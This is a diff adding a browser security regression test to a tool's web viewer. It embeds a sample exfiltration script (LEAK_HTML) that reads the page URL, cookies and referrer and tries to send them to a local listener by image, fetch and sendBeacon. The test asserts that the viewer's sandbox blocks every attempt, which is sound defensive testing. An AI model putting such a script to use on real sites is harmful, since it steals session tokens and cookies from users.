@@ -9,9 +9,11 @@ context.  Pixels are read from screenshots, which are kept under
 
 from __future__ import annotations
 
+import http.server
 import io
 import json
 import os
+import threading
 import time
 import urllib.error
 import urllib.request
@@ -616,6 +618,74 @@ def test_a_token_protected_server_refuses_a_request_without_it(page, ui_server, 
     open_run(page, base, logged["path"], token=TOKEN)
     ready(page, "section.media-panel[data-key='scene'] canvas.image-canvas")
     assert page.locator("section.media-panel[data-key='broken'] [role=alert]").count() == 1
+
+
+LEAK_HTML = """<p id="out">not run</p><script>
+const out = [];
+out.push("href:" + location.href);
+try { out.push("cookie:" + document.cookie); } catch (e) { out.push("cookie:" + e.name); }
+out.push("referrer:" + document.referrer);
+const leak = "http://127.0.0.1:PORT/leak?" + encodeURIComponent(location.href + " " + document.referrer);
+const img = new Promise((resolve) => {
+  const i = new Image();
+  i.onload = () => resolve("img:loaded");
+  i.onerror = () => resolve("img:error");
+  i.src = leak + "&via=img";
+});
+const sent = fetch(leak + "&via=fetch", { mode: "no-cors" }).then(() => "fetch:sent", (e) => "fetch:" + e.name);
+try { out.push("beacon:" + navigator.sendBeacon(leak + "&via=beacon", "x")); } catch (e) { out.push("beacon:" + e.name); }
+Promise.all([img, sent]).then((r) => {
+  out.push(...r, "done");
+  document.getElementById("out").textContent = out.join(" ");
+});
+</script>"""
+
+
+class _Listener(http.server.ThreadingHTTPServer):
+    """An HTTP server on 127.0.0.1 that records every request it gets (the stolen token would arrive here)."""
+
+    def __init__(self) -> None:
+        self.received: list[str] = []
+        listener = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                listener.received.append(f"{self.command} {self.path}")
+                self.send_response(204)
+                self.end_headers()
+
+            do_GET = do_POST = _record
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+
+def test_logged_html_cannot_read_the_token_or_reach_any_origin(page, ui_server, embedded_env):
+    """Issue 16, item 13: the token was in the iframe's URL, and a listener on 127.0.0.1 received it."""
+    listener = _Listener()
+    try:
+        run = darkroom.init(project="viewer", name="attack")
+        run.log({"page": darkroom.Html(LEAK_HTML.replace("PORT", str(listener.server_address[1])), inject=False)})
+        run.finish(quiet=True)
+        base = ui_server(embedded_env["DARKROOM_STORAGE_URL"], token=TOKEN)
+        page.goto(run_url(base, run.path, TOKEN))
+        frame = page.locator("section.media-panel[data-key='page'] iframe")
+        frame.wait_for()
+        out = page.frame_locator("section.media-panel[data-key='page'] iframe").locator("#out")
+        # The script ends by writing its findings, once its image and its fetch have both settled:
+        # a request that reached the listener was received before either settled.
+        out.filter(has_text="done").wait_for(timeout=15_000)
+        text = out.inner_text()
+    finally:
+        listener.shutdown()
+        listener.server_close()
+    assert TOKEN not in text and TOKEN not in (frame.get_attribute("src") or ""), text
+    assert "cookie:SecurityError" in text, text
+    assert "fetch:TypeError" in text and "img:error" in text, text  # refused by the file's CSP, not sent
+    assert listener.received == [], listener.received
 
 
 # -- the demo, and the README's picture ------------------------------------------------------------------------
